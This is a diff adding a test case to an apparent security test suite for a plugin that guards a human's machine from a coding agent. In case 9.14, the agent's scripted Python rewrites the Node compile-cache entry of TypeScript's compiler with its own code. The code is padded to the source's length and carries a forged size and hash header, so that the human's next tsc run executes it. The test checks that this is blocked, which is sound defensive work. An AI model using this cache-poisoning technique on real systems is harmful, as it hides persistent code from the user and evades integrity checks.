@@ -13,10 +13,11 @@
 // built from a wheelhouse, a cargo build at two calls.
 import { type ChildProcess, spawn } from 'node:child_process';
 import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
 import { basename, join } from 'node:path';
 import { afterAll, beforeAll, describe, expect } from 'vitest';
 import type { ToolPart } from '@semantic-anchors/sandbox';
-import type { Harness } from '../support/harness.js';
+import { type Harness, repoRoot } from '../support/harness.js';
 import { bash, callDirective, expectRan, pluginLogLines, unreadablePython } from '../support/turns.js';
 import { asHuman, expectNoMarker, marker, playAll, readOrMissing, seen } from './support/effects.js';
 import { honest, lacking, route } from './support/route.js';
@@ -103,6 +104,43 @@ const USER_PIP_CONF = `os.path.join(os.environ.get('XDG_CONFIG_HOME') or os.path
 
 const RUST_MAIN = 'fn main() {\n    println!("app ran");\n}\n';
 
+/** TypeScript's compiler as the human runs it (5.7+ turns on Node's compile cache, in the temp folder). */
+const TSC_LIB = join(repoRoot, 'node_modules/typescript/lib');
+/**
+ * The human's temp folder for this file's run (`TMPDIR`, for opencode and for the human's tsc): Node's compile cache
+ * is kept there, and a planted entry must never reach the machine's own /tmp/node-compile-cache, which other runs of
+ * tsc on this machine use.
+ */
+const HUMAN_TMP = join(tmpdir(), `sa-routes9-${process.pid}`);
+
+/**
+ * Python (the agent's) that rewrites the human's compile cache entry of TypeScript's compiler (`_tsc.js`): its own
+ * version of the source, of the same length (the licence comment's start replaced by a line of code), compiled by
+ * Node into a cache of its own; the entry's header then given the real source's size and hash (Node checks those, V8
+ * checks only the length) and written over the human's entry. The source stays as it was.
+ */
+const plantCompileCache = (work: string, humanCache: string, markerPath: string) =>
+  [
+    'import glob, os, shutil, struct, subprocess',
+    `lib, work, human = ${JSON.stringify(TSC_LIB)}, ${JSON.stringify(work)}, ${JSON.stringify(humanCache)}`,
+    'shutil.rmtree(work, True)',
+    "os.makedirs(work + '/lib')",
+    "shutil.copy(lib + '/tsc.js', work + '/lib/tsc.js')",
+    "src = open(lib + '/_tsc.js').read()",
+    `code = 'try { require("fs").writeFileSync(${JSON.stringify(markerPath).replaceAll('"', '\\"')}, ""); } catch (e) {}/*'`,
+    'n = len(code) + 40',
+    "assert src.index('*/') > n and src.startswith('/*')",
+    "open(work + '/lib/_tsc.js', 'w').write(code + 'x' * (n - len(code)) + src[n:])",
+    "subprocess.run(['node', work + '/lib/tsc.js', '--version'], env=dict(os.environ, NODE_COMPILE_CACHE=work + '/cache'))",
+    'big = lambda d: max(glob.glob(d + "/*/*"), key=os.path.getsize)',
+    "mine, theirs = big(work + '/cache'), big(human)",
+    "a, b = open(mine, 'rb').read(), open(theirs, 'rb').read()",
+    "m, t = list(struct.unpack('<4I', a[:16])), struct.unpack('<4I', b[:16])",
+    'm[1], m[3] = t[1], t[3]',
+    "open(theirs, 'wb').write(struct.pack('<4I', *m) + a[16:])",
+    'print("rewrote", theirs)',
+  ].join('\n');
+
 describe('round 9: package managers’ caches and configuration, tool-made environments, user units', () => {
   let h: Harness;
   let index: ChildProcess | undefined;
@@ -120,8 +158,13 @@ describe('round 9: package managers’ caches and configuration, tool-made envir
   const freshInstall = (name: string, venv: string) =>
     `python3 -m venv --without-pip ${venv} && "$(python3 -c 'import sys; print(sys.executable)')" -m pip --python ${venv}/bin/python install -q ${name} && ${venv}/bin/${name}`;
 
+  /** The human runs TypeScript's compiler (their temp folder, where Node keeps its compile cache). */
+  const tsc = () => `TMPDIR=${HUMAN_TMP} node ${TSC_LIB}/tsc.js --version`;
+
   beforeAll(async () => {
+    mkdirSync(HUMAN_TMP, { recursive: true });
     h = await startRoutesHarness({
+      env: { TMPDIR: HUMAN_TMP },
       projectText: {
         '.gitignore': '.venv/\n.tox/\ndist/\nrust/target/\nwheelhouse/\n',
         ...Object.fromEntries(Object.entries(packageFiles('helper')).map(([k, v]) => [`tools/helper/${k}`, v])),
@@ -174,6 +217,7 @@ describe('round 9: package managers’ caches and configuration, tool-made envir
     asHuman(h, 'python3 -m venv --without-pip .tox/py311 && python3 -m venv --without-pip .tox/docs');
     asHuman(h, `python3 -m venv --without-pip ${poetryEnv()}`);
     if (NO_CARGO === undefined) human.cargoBefore = asHuman(h, `cd rust && ${CARGO} run -q --offline`).output;
+    human.tscBefore = asHuman(h, tsc()).output;
     asHuman(h, 'git add -A && git commit -qm "chore: start"');
     // The human's next start (what the plugin protects is found at its start).
     expect((await h.restart()).pluginLoaded).toBe(true);
@@ -308,6 +352,9 @@ describe('round 9: package managers’ caches and configuration, tool-made envir
           `open(os.path.join(c, 'autostart', 'sync.desktop'), 'w').write('[Desktop Entry]\\nType=Application\\nExec=/bin/touch ${marker(h, '9.13')}\\n')`,
         ].join('\n'),
       ),
+      // 13 — 9.14: Node's compile cache in the human's temp folder: the entry of TypeScript's compiler rewritten
+      // with code of its own (tsc turns the cache on; the source is untouched).
+      unreadablePython(plantCompileCache(tmp('9.14'), join(HUMAN_TMP, 'node-compile-cache'), marker(h, '9.14'))),
     ]);
     // The honest neighbours, in a session of their own.
     const work = await h.client.createSession();
@@ -327,6 +374,9 @@ describe('round 9: package managers’ caches and configuration, tool-made envir
       // 4–5: the project's Rust tool built and run, at two calls.
       bash(`cd rust && ${CARGO} run -q --offline`),
       bash(`cd rust && ${CARGO} run -q --offline`),
+      // 6–7: TypeScript's compiler at two calls (Node's compile cache: the agent's own, in its temp folder).
+      bash(`node ${TSC_LIB}/tsc.js --version`),
+      bash(`node ${TSC_LIB}/tsc.js --version`),
     ]);
     // The human, later.
     human['9.01'] = asHuman(h, freshInstall('mytool', 'v901')).output;
@@ -335,6 +385,7 @@ describe('round 9: package managers’ caches and configuration, tool-made envir
     human['9.06'] = asHuman(h, '.tox/py311/bin/python -c "print(\'tests ran\')"').output;
     human['9.07'] = asHuman(h, '.tox/docs/bin/python -c "print(\'docs built\')"').output;
     human['9.08'] = asHuman(h, `${poetryEnv()}/bin/python -c "print('poetry run')"`).output;
+    human['9.14'] = asHuman(h, tsc()).output;
     // The human changes the code and builds again (an unchanged crate is not compiled: no wrapper would run).
     if (NO_CARGO === undefined)
       human.cargo = asHuman(h, `cd rust && touch src/main.rs && ${CARGO} run -q --offline`).output;
@@ -349,7 +400,8 @@ describe('round 9: package managers’ caches and configuration, tool-made envir
   }, 400_000);
   afterAll(async () => {
     if (index?.pid !== undefined) index.kill();
-    if (h) asHuman(h, `rm -rf ${tmp('9.03')} ${tmp('9.10')}.sh ${tmp('9.11')}.sh`, h.dirs.root);
+    if (h)
+      asHuman(h, `rm -rf ${tmp('9.03')} ${tmp('9.10')}.sh ${tmp('9.11')}.sh ${tmp('9.14')} ${HUMAN_TMP}`, h.dirs.root);
     await h?.stop();
   });
 
@@ -462,6 +514,17 @@ describe('round 9: package managers’ caches and configuration, tool-made envir
     },
   );
 
+  route(
+    '9.14',
+    "rewrites the entry of TypeScript's compiler in Node's compile cache in the human's temp folder (`$TMPDIR/node-compile-cache`; its own code compiled to the source's length, the header given the source's hash; python)",
+    'the human runs `tsc`: no marker, and it prints its version',
+    () => {
+      expect(human.tscBefore).toContain('Version');
+      expectNoMarker(h, '9.14');
+      expect(human['9.14']).toContain('Version');
+    },
+  );
+
   const ran = (part: ToolPart | undefined, text: string) => {
     expectRan(part);
     expect(seen(part)).not.toMatch(/BLOCKED by semantic-anchors/);
@@ -496,4 +559,8 @@ describe('round 9: package managers’ caches and configuration, tool-made envir
     },
     NO_CARGO,
   );
+  honest('H.55', "runs TypeScript's compiler at two calls (Node's compile cache)", 'both printed its version', () => {
+    ran(honestParts[6], 'Version');
+    ran(honestParts[7], 'Version');
+  });
 });
